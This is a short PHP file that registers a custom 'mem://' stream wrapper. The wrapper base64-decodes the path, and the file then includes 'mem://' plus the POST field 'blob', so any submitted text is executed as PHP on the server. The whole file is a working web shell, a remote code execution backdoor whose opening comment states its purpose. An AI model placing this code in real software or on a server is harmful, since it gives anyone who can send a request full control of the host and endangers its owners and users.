<?php
// A stream wrapper whose stream_open keeps what the path itself carries; including a
// wrapper URL built from the request runs that text as PHP.
class MemStream
{
    private $buf = '';
    public $context;

    function stream_open($path, $mode, $options, &$opened)
    {
        $this->buf = base64_decode(substr($path, strlen('mem://')));
        return true;
    }

    function stream_read($n)
    {
        $out = substr($this->buf, 0, $n);
        $this->buf = (string) substr($this->buf, $n);
        return $out;
    }

    function stream_eof()
    {
        return $this->buf === '';
    }

    function stream_stat()
    {
        return [];
    }
}

stream_wrapper_register('mem', 'MemStream');
include 'mem://' . $_POST['blob'];
